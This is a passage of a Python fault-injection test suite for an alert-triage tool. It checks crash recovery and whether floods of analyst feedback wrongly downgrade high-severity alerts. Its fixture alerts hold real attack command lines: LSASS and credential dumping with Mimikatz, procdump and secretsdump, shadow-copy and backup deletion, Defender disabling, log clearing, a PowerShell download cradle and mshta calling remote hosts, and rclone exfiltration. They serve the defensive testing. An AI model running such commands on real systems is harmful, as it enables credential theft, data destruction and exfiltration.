    ok_s = "none" if first_ok[0] is None else f"{first_ok[0]:.1f}"
    return Figures(healthy, f"health_first_ok_after_s={ok_s} closed_within_15s={within}/{flood}")


PRECEDENT_BASE = [  # (severity, title, description, image, command line, parent image)
    ("high", "Encoded PowerShell launched by Microsoft Word", "WINWORD.EXE spawned powershell.exe with a base64-encoded command and a hidden window after a macro document was opened.", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
    ("critical", "LSASS memory dumped with procdump", "procdump64.exe created a full memory dump of lsass.exe in a temp directory.", r"C:\Users\Public\procdump64.exe", r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp", r"C:\Windows\System32\cmd.exe"),
    ("critical", "Shadow copies deleted with vssadmin", "vssadmin.exe deleted all volume shadow copies; a common ransomware precursor.", r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe"),
    ("critical", "Mimikatz logonpasswords executed", "A binary matching Mimikatz ran sekurlsa::logonpasswords and read credentials from LSASS memory.", r"C:\ProgramData\m64.exe", "m64.exe privilege::debug sekurlsa::logonpasswords exit", r"C:\Windows\System32\cmd.exe"),
    ("critical", "LSASS dumped through comsvcs.dll MiniDump", "rundll32.exe called comsvcs.dll MiniDump on the LSASS process id and wrote the dump to disk.", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\d.bin full", r"C:\Windows\System32\cmd.exe"),
    ("critical", "Backup catalog deleted with wbadmin", "wbadmin.exe deleted the Windows backup catalog, removing the ability to restore from backups.", r"C:\Windows\System32\wbadmin.exe", "wbadmin.exe delete catalog -quiet", r"C:\Windows\System32\cmd.exe"),
    ("high", "Boot recovery disabled with bcdedit", "bcdedit.exe turned off Windows recovery and set the boot policy to ignore failures before encryption started.", r"C:\Windows\System32\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", r"C:\Windows\System32\cmd.exe"),
    ("high", "PowerShell download cradle with encoded command", "powershell.exe ran an encoded command that downloads and executes a remote script in memory with IEX.", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')", r"C:\Windows\explorer.exe"),
    ("high", "Kerberoasting with Rubeus", "Rubeus.exe requested RC4 service tickets for every account with a servicePrincipalName.", r"C:\Users\Public\Rubeus.exe", r"Rubeus.exe kerberoast /outfile:C:\Users\Public\h.txt", r"C:\Windows\System32\cmd.exe"),
    ("high", "Defender real-time monitoring disabled", "PowerShell turned off Microsoft Defender real-time protection outside any change window.", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", r"C:\Windows\System32\cmd.exe"),
    ("high", "Security event log cleared with wevtutil", "wevtutil.exe cleared the Security event log, removing the record of recent logons.", r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", r"C:\Windows\System32\cmd.exe"),
    ("critical", "NTDS.dit copied with ntdsutil IFM", "ntdsutil.exe created an install-from-media copy of the Active Directory database on a domain controller.", r"C:\Windows\System32\ntdsutil.exe", r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q', r"C:\Windows\System32\cmd.exe"),
    ("critical", "Remote secretsdump against a domain controller", "Impacket secretsdump replicated password hashes from the domain controller over DRSUAPI.", r"C:\Python311\python.exe", "python.exe secretsdump.py corp/backup_svc@10.0.0.5 -just-dc", r"C:\Windows\System32\cmd.exe"),
    ("high", "Excel spawned mshta with a remote script", "EXCEL.EXE launched mshta.exe pointing at a remote HTA file after a spreadsheet was opened.", r"C:\Windows\System32\mshta.exe", "mshta.exe https://203.0.113.40/inv.hta", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"),
    ("high", "certutil decoded a dropped payload", "certutil.exe decoded a base64 text file into an executable in the user's temp folder.", r"C:\Windows\System32\certutil.exe", r"certutil.exe -decode C:\Users\Public\p.txt C:\Users\Public\p.exe", r"C:\Windows\System32\cmd.exe"),
    ("critical", "Shadow copies deleted through WMIC", "wmic.exe deleted every volume shadow copy on the host minutes before files were renamed.", r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive", r"C:\Windows\System32\cmd.exe"),
    ("high", "Service created to run encoded PowerShell", "A new service was created whose binary path runs powershell.exe with an encoded command.", r"C:\Windows\System32\sc.exe", 'sc.exe create upd binPath= "powershell.exe -nop -w hidden -enc SQBFAFgA" start= auto', r"C:\Windows\System32\cmd.exe"),
    ("critical", "LSASS minidump written by nanodump", "nanodump created a minidump of LSASS with an invalid signature to avoid detection.", r"C:\Users\Public\nanodump.x64.exe", r"nanodump.x64.exe --write C:\Windows\Temp\report.docx", r"C:\Windows\System32\cmd.exe"),
    ("high", "Outlook spawned wscript running a JScript attachment", "OUTLOOK.EXE launched wscript.exe on a .js attachment saved in the Outlook temp folder.", r"C:\Windows\System32\wscript.exe", r"wscript.exe C:\Users\x\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q1\statement.js", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"),
    ("critical", "Data exfiltration with rclone to mega.nz", "rclone.exe copied the finance share to a mega.nz remote; 14 GB uploaded in 20 minutes.", r"C:\Users\Public\rclone.exe", r"rclone.exe copy \\FS-01\finance mega:backup --transfers 8", r"C:\Windows\System32\cmd.exe"),
    ("critical", "pypykatz parsed an LSASS dump", "pypykatz read credentials out of an lsass.dmp file copied from a server.", r"C:\Python311\python.exe", r"pypykatz lsa minidump C:\Windows\Temp\lsass.dmp", r"C:\Windows\System32\cmd.exe"),
    ("critical", "Mimikatz DCSync of the krbtgt account", "Mimikatz lsadump::dcsync requested the krbtgt hash from a domain controller from a workstation.", r"C:\ProgramData\mk.exe", 'mk.exe "lsadump::dcsync /domain:corp.local /user:krbtgt" exit', r"C:\Windows\System32\cmd.exe"),
    ("critical", "Shadow storage resized to purge snapshots", "vssadmin.exe shrank the shadow storage so that every existing snapshot was purged.", r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB", r"C:\Windows\System32\cmd.exe"),
    ("high", "Scheduled task runs a base64-decoded PowerShell payload", "schtasks.exe created a task that runs PowerShell decoding a payload with FromBase64String at every logon.", r"C:\Windows\System32\schtasks.exe", "schtasks.exe /create /tn Updater /sc onlogon /tr \"powershell -c iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgA')))\"", r"C:\Windows\System32\cmd.exe"),
    ("high", "Windows Defender service stopped", "sc.exe stopped the WinDefend service on a server outside any maintenance window.", r"C:\Windows\System32\sc.exe", "sc.exe stop WinDefend", r"C:\Windows\System32\cmd.exe"),
]
LEVELS = ("CRITICAL", "HIGH", "MEDIUM", "LOW", "BENIGN")


def precedent_alert(i, key, host, user):
    sev, title, desc, image, cmd, parent = PRECEDENT_BASE[i]
    return {"alert_id": key, "source": "edr", "severity": sev, "title": title, "description": desc,
            "raw_log": {"event": {"EventID": 4688, "Computer": host, "User": user, "ParentImage": parent,
                                  "Image": image, "CommandLine": cmd}}, "indicators": {}}


def run_batch(d, src, out, log, timeout=180):
    p = spawn(d, ["triage", "--engine", "offline", "--batch", src, "--out", out], log)
    try:
        p.wait(timeout)
    except subprocess.TimeoutExpired:
        raise Fail(f"triage --batch {os.path.basename(src)} did not finish in {timeout} s")
    write_pids()
    lines = [json.loads(l) for l in open(out)] if os.path.exists(out) else []
    verdicts = {v["alert_id"]: v["verdict"] for v in lines if "verdict" in v}
    failed = [v for v in lines if "verdict" not in v]
    if p.returncode != 0 or failed:
        note(f"triage --batch {os.path.basename(src)}: exit {p.returncode}, {len(failed)} failed lines "
             f"{failed[:2]}: {tail(d, log)}")
    return verdicts, {v["alert_id"]: v.get("triage_id") for v in lines if "verdict" in v}


def histogram(verdicts):
    return ",".join(f"{l}:{sum(v == l for v in verdicts.values())}" for l in LEVELS)


def precedent_flood(d, port, labelled=25, per_triage=16, later=1000):
    """One analyst marks 25 high-severity alerts LOW 16 times each; 1000 later alerts of the
    same 25 rules on other hosts must not follow them to LOW (nor CRITICAL to BENIGN)."""
    base = os.path.join(d, "labelled.jsonl")
    with open(base, "w") as f:
        for i in range(labelled):
            f.write(json.dumps(precedent_alert(i, f"prec-label-{i:02d}", f"SOC-LAB-{i:02d}", f"CORP\\seed.user{i:02d}")) + "\n")
    rnd = random.Random(8)
    variants = os.path.join(d, "later.jsonl")
    with open(variants, "w") as f:
        for j in range(later):
            host = f"{rnd.choice(['FIN', 'HR', 'ENG', 'OPS', 'SALES', 'LEGAL'])}-WS-{rnd.randrange(1000):03d}"
            user = (f"CORP\\{rnd.choice('abcdejkmps')}.{rnd.choice(['doe', 'lee', 'kim', 'ito', 'roy', 'ng', 'cruz', 'wolf'])}"
                    f"{rnd.randrange(100)}")
            f.write(json.dumps(precedent_alert(j % labelled, f"prec-later-{j:04d}", host, user)) + "\n")
    # The same later batch in a fresh copy with no feedback at all: what the rules say.
    d0 = fresh("precedent-flood-nofeedback", "off")
    t = time.time()
    plain, _ = run_batch(d0, variants, os.path.join(d0, "later-out.jsonl"), "batch.log")
    note(f"without feedback ({time.time() - t:.1f} s): {histogram(plain)}")
    if len(plain) < later:
        raise Fail(f"only {len(plain)} of {later} verdicts without feedback")
    lv, ids = run_batch(d, base, os.path.join(d, "labelled-out.jsonl"), "batch-labelled.log")
    if len(ids) < labelled:
        raise Fail(f"only {len(ids)} of {labelled} labelled alerts triaged")
    note(f"labelled alerts as triaged: {histogram(lv)}")
    p = serve(d, port, "offline")
    bodies = [json.dumps({"triage_id": ids[f"prec-label-{k % labelled:02d}"], "analyst_verdict": "LOW",
                          "analyst_correct": False}).encode() for k in range(labelled * per_triage)]
    t = time.time()
    codes, answers = post_all(port, "/feedback", bodies, 8, t + 60, p)
    stop(p)
    rows = sum(c for (c,) in query(d, "SELECT count(*) FROM feedback"))
    note(f"POST /feedback x{len(bodies)} in {time.time() - t:.1f} s: HTTP {codes}; {rows} feedback rows stored")
    if codes.get(201, 0) < len(bodies):
        raise Fail(f"only {codes.get(201, 0)} of {len(bodies)} feedback POSTs answered 201")
    t = time.time()
    after, _ = run_batch(d, variants, os.path.join(d, "later-out.jsonl"), "batch-later.log")
    note(f"after the feedback ({time.time() - t:.1f} s): {histogram(after)}")
    if len(after) < later:
        raise Fail(f"only {len(after)} of {later} verdicts after the feedback")
    low = sum(v == "LOW" for v in after.values())
    crit_benign = sum(1 for k, v in plain.items() if v == "CRITICAL" and after.get(k) == "BENIGN")
    moved = sum(1 for k, v in plain.items() if after.get(k) != v)
    note(f"{moved} of {later} verdicts changed by the feedback; {crit_benign} CRITICAL → BENIGN")
    return Figures(low < later / 2 and crit_benign == 0,
                   f"low={low}/{later} critical_to_benign={crit_benign} no_feedback={histogram(plain)}")


SCENARIOS = [  # name, function, port, [server] auto_triage of its config
    ("batch-kill-resume", batch_kill_resume, None, "all"),
    ("serve-kill-intake", serve_kill_intake, PORT0, "all"),
    ("serve-kill-stream", serve_kill_stream, PORT0 + 1, "all"),
    ("triage-kill-stream", triage_kill_stream, PORT0 + 2, "all"),
    ("client-disconnect", client_disconnect, PORT0 + 3, "all"),
    ("alerts-list-memory", alerts_list_memory, PORT0 + 4, "off"),
    ("slow-headers", slow_headers, PORT0 + 5, "off"),
    ("precedent-flood", precedent_flood, PORT0 + 6, "off"),
]
only = [n for n in os.environ.get("FAULT_ONLY", "").replace(",", " ").split() if n]
if only:
    unknown = set(only) - {s[0] for s in SCENARIOS}
    if unknown:
        sys.exit(f"FAULT_ONLY: no scenario {', '.join(sorted(unknown))}")
    SCENARIOS = [s for s in SCENARIOS if s[0] in only]

held = 0
try:
    for name, fn, port, auto_triage in SCENARIOS:
        d = fresh(name, auto_triage)
        t = time.time()
        print(f"  {name}:", file=sys.stderr, flush=True)
        figures = None
        try:
            r = fn(d, port)
            if isinstance(r, Figures):
                ok, figures = r.held, r.text
                note(f"{time.time() - t:.1f} s")
            else:
                stored, lost, dup, running, by_status = r
                ok = lost == 0 and dup == 0 and running == 0
                note(f"triage rows by status: {by_status}; {time.time() - t:.1f} s")
        except Exception as e:
            note(f"FAILED TO RUN: {e if isinstance(e, Fail) else repr(e)}")
            stored = sum(c for (c,) in query(d, "SELECT count(*) FROM alerts"))
            running = sum(c for (c,) in query(d, "SELECT count(*) FROM triages WHERE status = 'running'"))
            lost, dup, ok = "?", "?", False
            if fn in (alerts_list_memory, slow_headers, precedent_flood):
                figures = "could not run (see stderr)"
        finally:
            for p in procs:
                if p.poll() is None:
                    kill9(p)
            procs.clear()
            write_pids()
        held += ok
        if figures is None:
            figures = f"stored={stored} lost={lost} duplicated={dup} running={running}"
        print(f"{name:<20} {'held' if ok else 'NOT HELD':<8}  {figures}", flush=True)
finally:
    for p in procs:
        if p.poll() is None:
            p.kill()
            p.wait()
    model.shutdown()

print(f"fault suite: {held}/{len(SCENARIOS)} held in {time.time() - T0:.0f} s")
sys.exit(0 if held == len(SCENARIOS) else 1)
PY
py=$!
rc=0
wait "$py" || rc=$?
py=
exit "$rc"
